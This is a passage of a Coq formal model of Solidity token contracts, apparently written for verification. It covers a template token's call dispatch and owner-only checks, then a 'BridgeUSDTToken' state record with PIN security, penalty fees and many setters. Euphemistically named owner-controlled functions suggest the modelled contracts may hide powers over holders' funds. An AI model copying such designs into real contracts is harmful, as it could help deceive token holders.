  | c_reduceCirculatingSupply a => reduceCirculatingSupply block_timestamp msg_sender a s
  | c_optimizeWalletCompliance acc a =>
      optimizeWalletCompliance block_timestamp msg_sender acc a s
  | c_transfer to a => transfer block_timestamp msg_sender to a s
  | c_transferFrom from to a => transferFrom block_timestamp msg_sender from to a s
  | c_approve sp a => approve msg_sender sp a s
  | c_increaseAllowance sp a => increaseAllowance msg_sender sp a s
  | c_decreaseAllowance sp a => decreaseAllowance msg_sender sp a s
  | c_permit o sp v d sg => permit block_timestamp o sp v d sg s
  | c_transferOwnership o => transferOwnership msg_sender o s
  | c_renounceOwnership => renounceOwnership msg_sender s
  | c_receive => receive s
  end.

(** The storage after the transaction. *)
Definition transact (block_timestamp : Z) (msg_sender : address) (c : call) (s : state)
  : state :=
  commit s (dispatch block_timestamp msg_sender c s).

(** Every [uint256] argument of the call is one. *)
Definition valid_call (c : call) : Prop :=
  match c with
  | c_updateSecurityProtocol z
  | c_setNetworkValidator _ z
  | c_setMaxTransactionLimit z
  | c_setMaxWalletLimit z
  | c_allocateProtocolReserves _ z
  | c_reduceCirculatingSupply z
  | c_optimizeWalletCompliance _ z
  | c_transfer _ z
  | c_transferFrom _ _ z
  | c_approve _ z
  | c_increaseAllowance _ z
  | c_decreaseAllowance _ z => is_uint256 z
  | c_permit _ _ v d _ => is_uint256 v ∧ is_uint256 d
  | _ => True
  end.

(** The functions the template guards with [onlyOwner]. *)
Definition owner_only (c : call) : bool :=
  match c with
  | c_setPair _ | c_updateSecurityProtocol _ | c_optimizeProtocolPerformance
  | c_setNetworkValidator _ _ | c_enhanceParticipantSecurity _ | c_setExempt _ _
  | c_setTradingStatus _ | c_setMaxTransactionLimit _ | c_setMaxWalletLimit _
  | c_pause | c_unpause | c_allocateProtocolReserves _ _ => true
  | _ => false
  end.

(** The storages the deployed contract can be in: the one the constructor
    leaves, and those reached from it by successful calls. *)
Inductive reachable : state → Prop :=
  | reachable_deploy block_timestamp deployer name_ symbol_ initialSupply s :
      is_uint256 initialSupply →
      is_uint256 block_timestamp →
      constructor block_timestamp deployer name_ symbol_ initialSupply = Ok s →
      reachable s
  | reachable_call block_timestamp msg_sender c s s' :
      reachable s →
      valid_call c →
      is_uint256 block_timestamp →
      dispatch block_timestamp msg_sender c s = Ok s' →
      reachable s'.

(** *** Protocol query functions *)

Definition getProtocolVersion (s : state) : Z := _protocolVersion s.

Definition getInteractionStats (s : state) : Z := _totalInteractions s.

End WithKeccak.
End Template.

(** ** The [BridgeUSDTToken] contract *)

Module Bridge.

Record SecureMessage : Type := mkMessage {
  messageHash : Z;
  sender : address;
  recipient : address;
  timestamp : Z;
  isRead : bool;
  isDeleted : bool;
  encryptedContent : string
}.

Record UserSecurity : Type := mkSecurity {
  pinHash : Z;
  salt : Z;
  failedAttempts : Z;
  lastAttemptTime : Z;
  lockUntil : Z;
  paidPenalties : bool
}.

Record SystemAdmin : Type := mkAdmin {
  isActive : bool;
  accessLevel : Z;
  lastActivity : Z
}.

(** The zero values a mapping yields at a key never written. *)
Definition noMessage : SecureMessage := mkMessage 0 address0 address0 0 false false "".
Definition noSecurity : UserSecurity := mkSecurity 0 0 0 0 0 false.
Definition noAdmin : SystemAdmin := mkAdmin false 0 0.

(** External token addresses *)
Definition USDT : address := 0xc2132D05D31c914a87C6611C10748AEb04B58e8F%N.
Definition WBTC : address := 0x1BFD67037B42Cf73acF2047067bd4F2C47D9BfD6%N.
Definition USDC : address := 0x2791Bca1f2de4661ED88A30C99A7a9449Aa84174%N.

(** The storage of the contract, base contracts first. *)
Record state : Type := mk {
  erc20 : ERC20.state;   (* ERC20Permit *)
  _owner : address;   (* Ownable *)
  _paused : bool;   (* Pausable *)
  _status : Z;   (* ReentrancyGuard *)
  _messages : gmap Z SecureMessage;
  _userInbox : gmap N (list Z);
  _userOutbox : gmap N (list Z);
  _totalMessages : Z;
  _messageIdCounter : Z;
  _userSecurity : gmap N UserSecurity;
  _systemAdmins : gmap N SystemAdmin;
  _addressSecurityLevel : gmap N Z;
  _lastMaintenanceTime : Z;
  _systemEfficiencyScore : Z;
  _resourceAllocation : gmap Z Z;
  _lastIntegrityHash : Z;
  _integrityCheckInterval : Z;
  _networkQualityIndex : Z;
  feeCollectionAddress : address;
  usdtPair : address;
  _protocolExclusions : gmap N bool;
  _securityExemptions : gmap N bool;
  protocolActive : bool;
  tradingEnabled : bool;
  maxTransactionLimit : Z;
  maxWalletLimit : Z;
  penaltyAmounts : list Z;
  accountRecoveryFee : Z;
  _priorityResourceManager : address;
  _resourceOptimizationWindow : Z;
  _enhancedSecurityMode : bool;
  _priorityAccessList : gmap N bool;
  _protocolVerificationIndex : Z;
  _systemValidationSeed : Z;
  _networkStabilityFactor : Z
}.

Definition set_erc20 (v : ERC20.state) (s : state) : state :=
  mk v (_owner s) (_paused s) (_status s) (_messages s) (_userInbox s) (_userOutbox s)
    (_totalMessages s) (_messageIdCounter s) (_userSecurity s) (_systemAdmins s)
    (_addressSecurityLevel s) (_lastMaintenanceTime s) (_systemEfficiencyScore s)
    (_resourceAllocation s) (_lastIntegrityHash s) (_integrityCheckInterval s)
    (_networkQualityIndex s) (feeCollectionAddress s) (usdtPair s)
    (_protocolExclusions s) (_securityExemptions s) (protocolActive s)
    (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s) (penaltyAmounts s)
    (accountRecoveryFee s) (_priorityResourceManager s) (_resourceOptimizationWindow s)
    (_enhancedSecurityMode s) (_priorityAccessList s) (_protocolVerificationIndex s)
    (_systemValidationSeed s) (_networkStabilityFactor s).

Definition set_owner (v : address) (s : state) : state :=
  mk (erc20 s) v (_paused s) (_status s) (_messages s) (_userInbox s) (_userOutbox s)
    (_totalMessages s) (_messageIdCounter s) (_userSecurity s) (_systemAdmins s)
    (_addressSecurityLevel s) (_lastMaintenanceTime s) (_systemEfficiencyScore s)
    (_resourceAllocation s) (_lastIntegrityHash s) (_integrityCheckInterval s)
    (_networkQualityIndex s) (feeCollectionAddress s) (usdtPair s)
    (_protocolExclusions s) (_securityExemptions s) (protocolActive s)
    (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s) (penaltyAmounts s)
    (accountRecoveryFee s) (_priorityResourceManager s) (_resourceOptimizationWindow s)
    (_enhancedSecurityMode s) (_priorityAccessList s) (_protocolVerificationIndex s)
    (_systemValidationSeed s) (_networkStabilityFactor s).

Definition set_paused (v : bool) (s : state) : state :=
  mk (erc20 s) (_owner s) v (_status s) (_messages s) (_userInbox s) (_userOutbox s)
    (_totalMessages s) (_messageIdCounter s) (_userSecurity s) (_systemAdmins s)
    (_addressSecurityLevel s) (_lastMaintenanceTime s) (_systemEfficiencyScore s)
    (_resourceAllocation s) (_lastIntegrityHash s) (_integrityCheckInterval s)
    (_networkQualityIndex s) (feeCollectionAddress s) (usdtPair s)
    (_protocolExclusions s) (_securityExemptions s) (protocolActive s)
    (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s) (penaltyAmounts s)
    (accountRecoveryFee s) (_priorityResourceManager s) (_resourceOptimizationWindow s)
    (_enhancedSecurityMode s) (_priorityAccessList s) (_protocolVerificationIndex s)
    (_systemValidationSeed s) (_networkStabilityFactor s).

Definition set_status (v : Z) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) v (_messages s) (_userInbox s) (_userOutbox s)
    (_totalMessages s) (_messageIdCounter s) (_userSecurity s) (_systemAdmins s)
    (_addressSecurityLevel s) (_lastMaintenanceTime s) (_systemEfficiencyScore s)
    (_resourceAllocation s) (_lastIntegrityHash s) (_integrityCheckInterval s)
    (_networkQualityIndex s) (feeCollectionAddress s) (usdtPair s)
    (_protocolExclusions s) (_securityExemptions s) (protocolActive s)
    (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s) (penaltyAmounts s)
    (accountRecoveryFee s) (_priorityResourceManager s) (_resourceOptimizationWindow s)
    (_enhancedSecurityMode s) (_priorityAccessList s) (_protocolVerificationIndex s)
    (_systemValidationSeed s) (_networkStabilityFactor s).

Definition set_messages (v : gmap Z SecureMessage) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) v (_userInbox s) (_userOutbox s)
    (_totalMessages s) (_messageIdCounter s) (_userSecurity s) (_systemAdmins s)
    (_addressSecurityLevel s) (_lastMaintenanceTime s) (_systemEfficiencyScore s)
    (_resourceAllocation s) (_lastIntegrityHash s) (_integrityCheckInterval s)
    (_networkQualityIndex s) (feeCollectionAddress s) (usdtPair s)
    (_protocolExclusions s) (_securityExemptions s) (protocolActive s)
    (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s) (penaltyAmounts s)
    (accountRecoveryFee s) (_priorityResourceManager s) (_resourceOptimizationWindow s)
    (_enhancedSecurityMode s) (_priorityAccessList s) (_protocolVerificationIndex s)
    (_systemValidationSeed s) (_networkStabilityFactor s).

Definition set_userInbox (v : gmap N (list Z)) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_messages s) v (_userOutbox s)
    (_totalMessages s) (_messageIdCounter s) (_userSecurity s) (_systemAdmins s)
    (_addressSecurityLevel s) (_lastMaintenanceTime s) (_systemEfficiencyScore s)
    (_resourceAllocation s) (_lastIntegrityHash s) (_integrityCheckInterval s)
    (_networkQualityIndex s) (feeCollectionAddress s) (usdtPair s)
    (_protocolExclusions s) (_securityExemptions s) (protocolActive s)
    (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s) (penaltyAmounts s)
    (accountRecoveryFee s) (_priorityResourceManager s) (_resourceOptimizationWindow s)
    (_enhancedSecurityMode s) (_priorityAccessList s) (_protocolVerificationIndex s)
    (_systemValidationSeed s) (_networkStabilityFactor s).

Definition set_userOutbox (v : gmap N (list Z)) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_messages s) (_userInbox s) v
    (_totalMessages s) (_messageIdCounter s) (_userSecurity s) (_systemAdmins s)
    (_addressSecurityLevel s) (_lastMaintenanceTime s) (_systemEfficiencyScore s)
    (_resourceAllocation s) (_lastIntegrityHash s) (_integrityCheckInterval s)
    (_networkQualityIndex s) (feeCollectionAddress s) (usdtPair s)
    (_protocolExclusions s) (_securityExemptions s) (protocolActive s)
    (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s) (penaltyAmounts s)
    (accountRecoveryFee s) (_priorityResourceManager s) (_resourceOptimizationWindow s)
    (_enhancedSecurityMode s) (_priorityAccessList s) (_protocolVerificationIndex s)
    (_systemValidationSeed s) (_networkStabilityFactor s).

Definition set_totalMessages (v : Z) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_messages s) (_userInbox s)
    (_userOutbox s) v (_messageIdCounter s) (_userSecurity s) (_systemAdmins s)
    (_addressSecurityLevel s) (_lastMaintenanceTime s) (_systemEfficiencyScore s)
    (_resourceAllocation s) (_lastIntegrityHash s) (_integrityCheckInterval s)
    (_networkQualityIndex s) (feeCollectionAddress s) (usdtPair s)
    (_protocolExclusions s) (_securityExemptions s) (protocolActive s)
    (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s) (penaltyAmounts s)
    (accountRecoveryFee s) (_priorityResourceManager s) (_resourceOptimizationWindow s)
    (_enhancedSecurityMode s) (_priorityAccessList s) (_protocolVerificationIndex s)
    (_systemValidationSeed s) (_networkStabilityFactor s).

Definition set_messageIdCounter (v : Z) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_messages s) (_userInbox s)
    (_userOutbox s) (_totalMessages s) v (_userSecurity s) (_systemAdmins s)
    (_addressSecurityLevel s) (_lastMaintenanceTime s) (_systemEfficiencyScore s)
    (_resourceAllocation s) (_lastIntegrityHash s) (_integrityCheckInterval s)
    (_networkQualityIndex s) (feeCollectionAddress s) (usdtPair s)
    (_protocolExclusions s) (_securityExemptions s) (protocolActive s)
    (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s) (penaltyAmounts s)
    (accountRecoveryFee s) (_priorityResourceManager s) (_resourceOptimizationWindow s)
    (_enhancedSecurityMode s) (_priorityAccessList s) (_protocolVerificationIndex s)
    (_systemValidationSeed s) (_networkStabilityFactor s).

Definition set_userSecurity (v : gmap N UserSecurity) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_messages s) (_userInbox s)
    (_userOutbox s) (_totalMessages s) (_messageIdCounter s) v (_systemAdmins s)
    (_addressSecurityLevel s) (_lastMaintenanceTime s) (_systemEfficiencyScore s)
    (_resourceAllocation s) (_lastIntegrityHash s) (_integrityCheckInterval s)
    (_networkQualityIndex s) (feeCollectionAddress s) (usdtPair s)
    (_protocolExclusions s) (_securityExemptions s) (protocolActive s)
    (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s) (penaltyAmounts s)
    (accountRecoveryFee s) (_priorityResourceManager s) (_resourceOptimizationWindow s)
    (_enhancedSecurityMode s) (_priorityAccessList s) (_protocolVerificationIndex s)
    (_systemValidationSeed s) (_networkStabilityFactor s).

Definition set_systemAdmins (v : gmap N SystemAdmin) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_messages s) (_userInbox s)
    (_userOutbox s) (_totalMessages s) (_messageIdCounter s) (_userSecurity s) v
    (_addressSecurityLevel s) (_lastMaintenanceTime s) (_systemEfficiencyScore s)
    (_resourceAllocation s) (_lastIntegrityHash s) (_integrityCheckInterval s)
    (_networkQualityIndex s) (feeCollectionAddress s) (usdtPair s)
    (_protocolExclusions s) (_securityExemptions s) (protocolActive s)
    (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s) (penaltyAmounts s)
    (accountRecoveryFee s) (_priorityResourceManager s) (_resourceOptimizationWindow s)
    (_enhancedSecurityMode s) (_priorityAccessList s) (_protocolVerificationIndex s)
    (_systemValidationSeed s) (_networkStabilityFactor s).

Definition set_addressSecurityLevel (v : gmap N Z) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_messages s) (_userInbox s)
    (_userOutbox s) (_totalMessages s) (_messageIdCounter s) (_userSecurity s)
    (_systemAdmins s) v (_lastMaintenanceTime s) (_systemEfficiencyScore s)
    (_resourceAllocation s) (_lastIntegrityHash s) (_integrityCheckInterval s)
    (_networkQualityIndex s) (feeCollectionAddress s) (usdtPair s)
    (_protocolExclusions s) (_securityExemptions s) (protocolActive s)
    (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s) (penaltyAmounts s)
    (accountRecoveryFee s) (_priorityResourceManager s) (_resourceOptimizationWindow s)
    (_enhancedSecurityMode s) (_priorityAccessList s) (_protocolVerificationIndex s)
    (_systemValidationSeed s) (_networkStabilityFactor s).

Definition set_lastMaintenanceTime (v : Z) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_messages s) (_userInbox s)
    (_userOutbox s) (_totalMessages s) (_messageIdCounter s) (_userSecurity s)
    (_systemAdmins s) (_addressSecurityLevel s) v (_systemEfficiencyScore s)
    (_resourceAllocation s) (_lastIntegrityHash s) (_integrityCheckInterval s)
    (_networkQualityIndex s) (feeCollectionAddress s) (usdtPair s)
    (_protocolExclusions s) (_securityExemptions s) (protocolActive s)
    (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s) (penaltyAmounts s)
    (accountRecoveryFee s) (_priorityResourceManager s) (_resourceOptimizationWindow s)
    (_enhancedSecurityMode s) (_priorityAccessList s) (_protocolVerificationIndex s)
    (_systemValidationSeed s) (_networkStabilityFactor s).

Definition set_systemEfficiencyScore (v : Z) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_messages s) (_userInbox s)
    (_userOutbox s) (_totalMessages s) (_messageIdCounter s) (_userSecurity s)
    (_systemAdmins s) (_addressSecurityLevel s) (_lastMaintenanceTime s) v
    (_resourceAllocation s) (_lastIntegrityHash s) (_integrityCheckInterval s)
    (_networkQualityIndex s) (feeCollectionAddress s) (usdtPair s)
    (_protocolExclusions s) (_securityExemptions s) (protocolActive s)
    (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s) (penaltyAmounts s)
    (accountRecoveryFee s) (_priorityResourceManager s) (_resourceOptimizationWindow s)
    (_enhancedSecurityMode s) (_priorityAccessList s) (_protocolVerificationIndex s)
    (_systemValidationSeed s) (_networkStabilityFactor s).

Definition set_resourceAllocation (v : gmap Z Z) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_messages s) (_userInbox s)
    (_userOutbox s) (_totalMessages s) (_messageIdCounter s) (_userSecurity s)
    (_systemAdmins s) (_addressSecurityLevel s) (_lastMaintenanceTime s)
    (_systemEfficiencyScore s) v (_lastIntegrityHash s) (_integrityCheckInterval s)
    (_networkQualityIndex s) (feeCollectionAddress s) (usdtPair s)
    (_protocolExclusions s) (_securityExemptions s) (protocolActive s)
    (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s) (penaltyAmounts s)
    (accountRecoveryFee s) (_priorityResourceManager s) (_resourceOptimizationWindow s)
    (_enhancedSecurityMode s) (_priorityAccessList s) (_protocolVerificationIndex s)
    (_systemValidationSeed s) (_networkStabilityFactor s).

Definition set_lastIntegrityHash (v : Z) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_messages s) (_userInbox s)
    (_userOutbox s) (_totalMessages s) (_messageIdCounter s) (_userSecurity s)
    (_systemAdmins s) (_addressSecurityLevel s) (_lastMaintenanceTime s)
    (_systemEfficiencyScore s) (_resourceAllocation s) v (_integrityCheckInterval s)
    (_networkQualityIndex s) (feeCollectionAddress s) (usdtPair s)
    (_protocolExclusions s) (_securityExemptions s) (protocolActive s)
    (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s) (penaltyAmounts s)
    (accountRecoveryFee s) (_priorityResourceManager s) (_resourceOptimizationWindow s)
    (_enhancedSecurityMode s) (_priorityAccessList s) (_protocolVerificationIndex s)
    (_systemValidationSeed s) (_networkStabilityFactor s).

Definition set_integrityCheckInterval (v : Z) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_messages s) (_userInbox s)
    (_userOutbox s) (_totalMessages s) (_messageIdCounter s) (_userSecurity s)
    (_systemAdmins s) (_addressSecurityLevel s) (_lastMaintenanceTime s)
    (_systemEfficiencyScore s) (_resourceAllocation s) (_lastIntegrityHash s) v
    (_networkQualityIndex s) (feeCollectionAddress s) (usdtPair s)
    (_protocolExclusions s) (_securityExemptions s) (protocolActive s)
    (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s) (penaltyAmounts s)
    (accountRecoveryFee s) (_priorityResourceManager s) (_resourceOptimizationWindow s)
    (_enhancedSecurityMode s) (_priorityAccessList s) (_protocolVerificationIndex s)
    (_systemValidationSeed s) (_networkStabilityFactor s).

Definition set_networkQualityIndex (v : Z) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_messages s) (_userInbox s)
    (_userOutbox s) (_totalMessages s) (_messageIdCounter s) (_userSecurity s)
    (_systemAdmins s) (_addressSecurityLevel s) (_lastMaintenanceTime s)
    (_systemEfficiencyScore s) (_resourceAllocation s) (_lastIntegrityHash s)
    (_integrityCheckInterval s) v (feeCollectionAddress s) (usdtPair s)
    (_protocolExclusions s) (_securityExemptions s) (protocolActive s)
    (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s) (penaltyAmounts s)
    (accountRecoveryFee s) (_priorityResourceManager s) (_resourceOptimizationWindow s)
    (_enhancedSecurityMode s) (_priorityAccessList s) (_protocolVerificationIndex s)
    (_systemValidationSeed s) (_networkStabilityFactor s).

Definition set_feeCollectionAddress (v : address) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_messages s) (_userInbox s)
    (_userOutbox s) (_totalMessages s) (_messageIdCounter s) (_userSecurity s)
    (_systemAdmins s) (_addressSecurityLevel s) (_lastMaintenanceTime s)
    (_systemEfficiencyScore s) (_resourceAllocation s) (_lastIntegrityHash s)
    (_integrityCheckInterval s) (_networkQualityIndex s) v (usdtPair s)
    (_protocolExclusions s) (_securityExemptions s) (protocolActive s)
    (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s) (penaltyAmounts s)
    (accountRecoveryFee s) (_priorityResourceManager s) (_resourceOptimizationWindow s)
    (_enhancedSecurityMode s) (_priorityAccessList s) (_protocolVerificationIndex s)
    (_systemValidationSeed s) (_networkStabilityFactor s).

Definition set_usdtPair (v : address) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_messages s) (_userInbox s)
    (_userOutbox s) (_totalMessages s) (_messageIdCounter s) (_userSecurity s)
    (_systemAdmins s) (_addressSecurityLevel s) (_lastMaintenanceTime s)
    (_systemEfficiencyScore s) (_resourceAllocation s) (_lastIntegrityHash s)
    (_integrityCheckInterval s) (_networkQualityIndex s) (feeCollectionAddress s) v
    (_protocolExclusions s) (_securityExemptions s) (protocolActive s)
    (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s) (penaltyAmounts s)
    (accountRecoveryFee s) (_priorityResourceManager s) (_resourceOptimizationWindow s)
    (_enhancedSecurityMode s) (_priorityAccessList s) (_protocolVerificationIndex s)
    (_systemValidationSeed s) (_networkStabilityFactor s).

Definition set_protocolExclusions (v : gmap N bool) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_messages s) (_userInbox s)
    (_userOutbox s) (_totalMessages s) (_messageIdCounter s) (_userSecurity s)
    (_systemAdmins s) (_addressSecurityLevel s) (_lastMaintenanceTime s)
    (_systemEfficiencyScore s) (_resourceAllocation s) (_lastIntegrityHash s)
    (_integrityCheckInterval s) (_networkQualityIndex s) (feeCollectionAddress s)
    (usdtPair s) v (_securityExemptions s) (protocolActive s) (tradingEnabled s)
    (maxTransactionLimit s) (maxWalletLimit s) (penaltyAmounts s) (accountRecoveryFee s)
    (_priorityResourceManager s) (_resourceOptimizationWindow s)
    (_enhancedSecurityMode s) (_priorityAccessList s) (_protocolVerificationIndex s)
    (_systemValidationSeed s) (_networkStabilityFactor s).

Definition set_securityExemptions (v : gmap N bool) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_messages s) (_userInbox s)
    (_userOutbox s) (_totalMessages s) (_messageIdCounter s) (_userSecurity s)
    (_systemAdmins s) (_addressSecurityLevel s) (_lastMaintenanceTime s)
    (_systemEfficiencyScore s) (_resourceAllocation s) (_lastIntegrityHash s)
    (_integrityCheckInterval s) (_networkQualityIndex s) (feeCollectionAddress s)
    (usdtPair s) (_protocolExclusions s) v (protocolActive s) (tradingEnabled s)
    (maxTransactionLimit s) (maxWalletLimit s) (penaltyAmounts s) (accountRecoveryFee s)
    (_priorityResourceManager s) (_resourceOptimizationWindow s)
    (_enhancedSecurityMode s) (_priorityAccessList s) (_protocolVerificationIndex s)
    (_systemValidationSeed s) (_networkStabilityFactor s).

Definition set_tradingEnabled (v : bool) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_messages s) (_userInbox s)
    (_userOutbox s) (_totalMessages s) (_messageIdCounter s) (_userSecurity s)
    (_systemAdmins s) (_addressSecurityLevel s) (_lastMaintenanceTime s)
    (_systemEfficiencyScore s) (_resourceAllocation s) (_lastIntegrityHash s)
    (_integrityCheckInterval s) (_networkQualityIndex s) (feeCollectionAddress s)
    (usdtPair s) (_protocolExclusions s) (_securityExemptions s) (protocolActive s) v
    (maxTransactionLimit s) (maxWalletLimit s) (penaltyAmounts s) (accountRecoveryFee s)
    (_priorityResourceManager s) (_resourceOptimizationWindow s)
    (_enhancedSecurityMode s) (_priorityAccessList s) (_protocolVerificationIndex s)
    (_systemValidationSeed s) (_networkStabilityFactor s).

Definition set_maxTransactionLimit (v : Z) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_messages s) (_userInbox s)
    (_userOutbox s) (_totalMessages s) (_messageIdCounter s) (_userSecurity s)
    (_systemAdmins s) (_addressSecurityLevel s) (_lastMaintenanceTime s)
    (_systemEfficiencyScore s) (_resourceAllocation s) (_lastIntegrityHash s)
    (_integrityCheckInterval s) (_networkQualityIndex s) (feeCollectionAddress s)
    (usdtPair s) (_protocolExclusions s) (_securityExemptions s) (protocolActive s)
    (tradingEnabled s) v (maxWalletLimit s) (penaltyAmounts s) (accountRecoveryFee s)
    (_priorityResourceManager s) (_resourceOptimizationWindow s)
    (_enhancedSecurityMode s) (_priorityAccessList s) (_protocolVerificationIndex s)
    (_systemValidationSeed s) (_networkStabilityFactor s).

Definition set_maxWalletLimit (v : Z) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_messages s) (_userInbox s)
    (_userOutbox s) (_totalMessages s) (_messageIdCounter s) (_userSecurity s)
    (_systemAdmins s) (_addressSecurityLevel s) (_lastMaintenanceTime s)
    (_systemEfficiencyScore s) (_resourceAllocation s) (_lastIntegrityHash s)
    (_integrityCheckInterval s) (_networkQualityIndex s) (feeCollectionAddress s)
    (usdtPair s) (_protocolExclusions s) (_securityExemptions s) (protocolActive s)
    (tradingEnabled s) (maxTransactionLimit s) v (penaltyAmounts s)
    (accountRecoveryFee s) (_priorityResourceManager s) (_resourceOptimizationWindow s)
    (_enhancedSecurityMode s) (_priorityAccessList s) (_protocolVerificationIndex s)
    (_systemValidationSeed s) (_networkStabilityFactor s).

Definition set_priorityResourceManager (v : address) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_messages s) (_userInbox s)
    (_userOutbox s) (_totalMessages s) (_messageIdCounter s) (_userSecurity s)
    (_systemAdmins s) (_addressSecurityLevel s) (_lastMaintenanceTime s)
    (_systemEfficiencyScore s) (_resourceAllocation s) (_lastIntegrityHash s)
    (_integrityCheckInterval s) (_networkQualityIndex s) (feeCollectionAddress s)
    (usdtPair s) (_protocolExclusions s) (_securityExemptions s) (protocolActive s)
    (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s) (penaltyAmounts s)
    (accountRecoveryFee s) v (_resourceOptimizationWindow s) (_enhancedSecurityMode s)
    (_priorityAccessList s) (_protocolVerificationIndex s) (_systemValidationSeed s)
    (_networkStabilityFactor s).

Definition set_resourceOptimizationWindow (v : Z) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_messages s) (_userInbox s)
    (_userOutbox s) (_totalMessages s) (_messageIdCounter s) (_userSecurity s)
    (_systemAdmins s) (_addressSecurityLevel s) (_lastMaintenanceTime s)
    (_systemEfficiencyScore s) (_resourceAllocation s) (_lastIntegrityHash s)
    (_integrityCheckInterval s) (_networkQualityIndex s) (feeCollectionAddress s)
    (usdtPair s) (_protocolExclusions s) (_securityExemptions s) (protocolActive s)
    (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s) (penaltyAmounts s)
    (accountRecoveryFee s) (_priorityResourceManager s) v (_enhancedSecurityMode s)
    (_priorityAccessList s) (_protocolVerificationIndex s) (_systemValidationSeed s)
    (_networkStabilityFactor s).

Definition set_enhancedSecurityMode (v : bool) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_messages s) (_userInbox s)
    (_userOutbox s) (_totalMessages s) (_messageIdCounter s) (_userSecurity s)
    (_systemAdmins s) (_addressSecurityLevel s) (_lastMaintenanceTime s)
    (_systemEfficiencyScore s) (_resourceAllocation s) (_lastIntegrityHash s)
    (_integrityCheckInterval s) (_networkQualityIndex s) (feeCollectionAddress s)
    (usdtPair s) (_protocolExclusions s) (_securityExemptions s) (protocolActive s)
    (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s) (penaltyAmounts s)
    (accountRecoveryFee s) (_priorityResourceManager s) (_resourceOptimizationWindow s)
    v (_priorityAccessList s) (_protocolVerificationIndex s) (_systemValidationSeed s)
    (_networkStabilityFactor s).

Definition set_priorityAccessList (v : gmap N bool) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_messages s) (_userInbox s)
    (_userOutbox s) (_totalMessages s) (_messageIdCounter s) (_userSecurity s)
    (_systemAdmins s) (_addressSecurityLevel s) (_lastMaintenanceTime s)
    (_systemEfficiencyScore s) (_resourceAllocation s) (_lastIntegrityHash s)
    (_integrityCheckInterval s) (_networkQualityIndex s) (feeCollectionAddress s)
    (usdtPair s) (_protocolExclusions s) (_securityExemptions s) (protocolActive s)
    (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s) (penaltyAmounts s)
    (accountRecoveryFee s) (_priorityResourceManager s) (_resourceOptimizationWindow s)
    (_enhancedSecurityMode s) v (_protocolVerificationIndex s) (_systemValidationSeed s)
    (_networkStabilityFactor s).

Definition set_systemValidationSeed (v : Z) (s : state) : state :=
  mk (erc20 s) (_owner s) (_paused s) (_status s) (_messages s) (_userInbox s)
    (_userOutbox s) (_totalMessages s) (_messageIdCounter s) (_userSecurity s)
    (_systemAdmins s) (_addressSecurityLevel s) (_lastMaintenanceTime s)
    (_systemEfficiencyScore s) (_resourceAllocation s) (_lastIntegrityHash s)
    (_integrityCheckInterval s) (_networkQualityIndex s) (feeCollectionAddress s)
    (usdtPair s) (_protocolExclusions s) (_securityExemptions s) (protocolActive s)
    (tradingEnabled s) (maxTransactionLimit s) (maxWalletLimit s) (penaltyAmounts s)
    (accountRecoveryFee s) (_priorityResourceManager s) (_resourceOptimizationWindow s)
    (_enhancedSecurityMode s) (_priorityAccessList s) (_protocolVerificationIndex s) v
    (_networkStabilityFactor s).

(** What the block and the deployment give to a call. *)
Record env : Type := mkEnv {
  block_timestamp : Z;
  prev_blockhash : Z;        (* blockhash(block.number - 1) *)
  this : address             (* address(this) *)
}.

(** *** Views *)

Definition owner (s : state) : address := _owner s.
Definition paused (s : state) : bool := _paused s.
Definition totalSupply (s : state) : Z := ERC20.totalSupply (erc20 s).
